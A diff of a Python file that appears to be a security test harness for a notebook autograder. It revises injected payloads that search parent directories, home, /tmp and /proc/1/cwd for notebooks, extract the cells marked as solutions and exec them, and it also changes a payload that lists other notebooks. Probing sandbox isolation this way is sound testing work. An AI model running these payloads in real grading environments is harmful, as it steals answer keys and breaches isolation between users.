@@ -11,25 +11,29 @@ environment, a port on loopback, and a marker that names the processes an attack
 
 STEAL_SOLUTIONS = '''
 import glob, json, os
+_marker = "### BEGIN " + "SOLUTION"
 def _solutions():
-    here = os.getcwd()
-    places = [here] + [os.path.dirname(here.rstrip("/")) for _ in range(1)]
-    for up in range(8):
+    here, places = os.getcwd(), []
+    for _ in range(6):
         here = os.path.dirname(here)
         places.append(here)
-    places += ["/", os.path.expanduser("~"), "/tmp", "/proc/1/cwd", "/proc/1/root", {course!r}, {workdir!r}]
+    places += [os.path.expanduser("~"), "/tmp", "/proc/1/cwd", {course!r}, {workdir!r}]
     for place in places:
-        for path in glob.glob(os.path.join(place, "**", "*.ipynb"), recursive=True)[:200]:
+        for path in glob.glob(os.path.join(place, "*", "**", "*.ipynb"), recursive=True)[:300]:
             try:
                 cells = json.load(open(path))["cells"]
             except Exception:
                 continue
-            code = ["".join(c["source"]) for c in cells if "BEGIN SOLUTION" in "".join(c["source"])]
+            code = ["".join(c["source"]) for c in cells
+                    if any(line.strip() == _marker for line in "".join(c["source"]).splitlines())]
             if code:
                 return code
     return []
 for _source in _solutions():
-    exec(_source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
+    try:
+        exec(_source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
+    except Exception:
+        pass
 '''
 
 def attack_notebooks(released, places: dict) -> dict:
@@ -96,7 +100,7 @@ get_ipython().events.register("post_run_cell", lambda result: print(result.info.
 ''',
     "list-other-notebooks": '''
 import glob, os
-for _place in ["..", "../..", "../../..", "/", "/tmp", os.path.expanduser("~"), {workdir!r}, {course!r}]:
+for _place in ["..", "../..", "../../..", "/tmp", os.path.expanduser("~"), {workdir!r}, {course!r}]:
     print(_place, sorted(glob.glob(os.path.join(_place, "**", "*.ipynb"), recursive=True))[:50])
     try:
         print(_place, os.listdir(_place))
